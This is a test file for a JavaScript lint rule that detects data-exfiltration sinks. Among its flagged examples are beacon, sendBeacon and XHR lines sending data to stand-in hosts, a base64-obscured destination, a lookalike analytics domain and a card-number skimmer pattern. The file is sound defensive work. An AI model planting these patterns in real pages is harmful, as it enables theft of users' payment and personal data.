import rule from './exfil-sink.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'UI kit: inputs queried and keys listened to for focus, a vimeo oEmbed fetched (nothing flows between them)', code: "document.addEventListener('keydown', function (e) { if (e.key === 'Escape') close(); }); var inputs = document.querySelectorAll('input'); for (var i = 0; i < inputs.length; i++) inputs[i].disabled = true; function embed(src) { return fetch('https://vimeo.com/api/oembed.json?maxwidth=1920&url=' + encodeURIComponent(src)).then(function (r) { return r.json(); }); }" },
    { name: 'Firebase Messaging telemetry: literal log host, an API key interleaved from two strings', code: "var LOG = 'https://play.google.com/log?format=json_proto3'; function merge(a, b) { var r = []; for (var i = 0; i < a.length; i++) { r.push(a.charAt(i)); if (i < b.length) r.push(b.charAt(i)); } return r.join(''); } var KEY = merge('AzSCbw63g1R0nCw85jG8', 'Iaya3yLKwmgvh7cF0q4'); function send(req) { return fetch(LOG.concat('&key=', KEY), { method: 'POST', body: JSON.stringify(req) }); }" },
    { name: 'a CDN background image chosen at run time', code: "hero.style.backgroundImage = 'url(https://cdn.shop.example/img/' + slide.id + '.jpg)';" },
    "new Image().src = 'https://cdn.example/logo.png';",
    "fetch('/api/cart', {method:'POST', body: JSON.stringify(cart)});",
    "img.src = '/static/' + name + '.png';",
    "fetch(url, {method: 'POST', body: data});",
    { name: 'session-replay batches posted to a Blob worker that gets its endpoint by message', code: "var w = new Worker(URL.createObjectURL(new Blob(['onmessage=function(e){if(e.data.type===\"start\")u=e.data.ingestPoint;else fetch(u,{method:\"POST\",body:JSON.stringify(e.data),keepalive:true})}']))); w.postMessage({ type: 'start', ingestPoint: opts.ingestPoint }); setInterval(function () { w.postMessage([Date.now(), tabId]); }, 30000);" },
    // near misses: analytics beacons of their own run-time data to their own host
    { name: 'GA-style collect pixel', code: "new Image().src = 'https://www.google-analytics.com/collect?v=1&tid=' + tid + '&cid=' + cid + '&dl=' + encodeURIComponent(location.href);" },
    { name: 'RUM beacon', code: "navigator.sendBeacon('https://rum.vendor.example/v1/input', JSON.stringify(metrics));" },
  ],
  invalid: [
    { code: "new Image().src = 'https://stats.example/p.gif?d=' + data;", messageIds: ['beacon'], severity: 'low' },
    { code: "navigator.sendBeacon('https://b.example/c', payload);", messageIds: ['beacon'] },
    { code: "var x = new XMLHttpRequest(); x.open('POST', 'https://c.example/x'); x.send(body);", messageIds: ['beacon'] },
    { name: 'hidden destination', code: "navigator.sendBeacon(atob('aHR0cHM6Ly9iLmV4YW1wbGUvYw=='), payload);", messageIds: ['beacon'], severity: 'medium' },
    { name: 'lookalike destination', code: "navigator.sendBeacon('https://google-analytics-cdn.example/c', payload);", messageIds: ['beacon'], severity: 'medium' },
    { name: 'script also reads the card', code: "var n = document.getElementById('cc-number').value; new Image().src = 'https://stats.example/p.gif?d=' + data;", messageIds: ['beacon'], severity: 'medium' },
  ],
});
